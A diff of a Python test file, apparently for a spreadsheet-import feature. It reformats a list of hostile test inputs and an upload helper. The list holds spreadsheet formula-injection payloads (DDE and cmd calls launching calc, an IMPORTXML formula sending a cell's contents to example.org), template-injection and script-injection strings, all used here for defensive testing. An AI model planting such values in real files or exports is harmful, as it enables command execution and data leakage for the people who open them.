@@ -61,8 +61,8 @@ HOSTILE = [
     "=0",
     "=A1=A1",
     "-2+3+cmd|' /C calc'!A0",
-    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
     "${7*7}{{7*7}}",
     "<script>alert(1)</script>",
     "\ufeff开头",
@@ -159,9 +159,7 @@ class WorkbookSteps:
     def upload(self, user, content, name="表.xlsx"):
         """Upload a file and return the page that answers: form with errors, problems, or preview."""
         self.client.force_login(user)
-        return self.client.post(
-            self.url("import"), {"import_file": SimpleUploadedFile(name, content), "resource": "0"}
-        )
+        return self.client.post(self.url("import"), {"import_file": SimpleUploadedFile(name, content), "resource": "0"})
 
     def confirm(self, page):
         """Confirm the preview and return the page after it."""
